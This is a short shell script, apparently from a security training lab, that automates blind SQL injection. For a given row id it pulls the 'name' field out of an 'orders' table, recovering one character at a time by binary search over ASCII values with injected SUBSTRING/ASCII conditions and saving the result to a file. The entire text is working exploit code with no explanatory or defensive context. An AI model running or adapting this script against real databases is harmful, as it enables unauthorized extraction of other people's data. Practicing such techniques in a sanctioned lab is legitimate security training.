# blind.sh ROW: the name in a row, letter by letter, in the file "name-ROW"; each is found by halves.
ROW=$1
. /usr/local/lib/lab/inject.sh
name=
while true; do
	at=$((${#name} + 1))
	low=0
	high=127
	while [ $low -lt $high ]; do
		middle=$(((low + high) / 2))
		if holds "ASCII(SUBSTRING((SELECT name FROM orders WHERE id=$ROW) FROM $at FOR 1))>$middle"; then
			low=$((middle + 1))
		else
			high=$middle
		fi
	done
	# after the last letter
	[ $low -gt 0 ] || break
	name=$name$(printf "\\$(printf %o $low)")
done
echo "$name" >"name-$ROW"
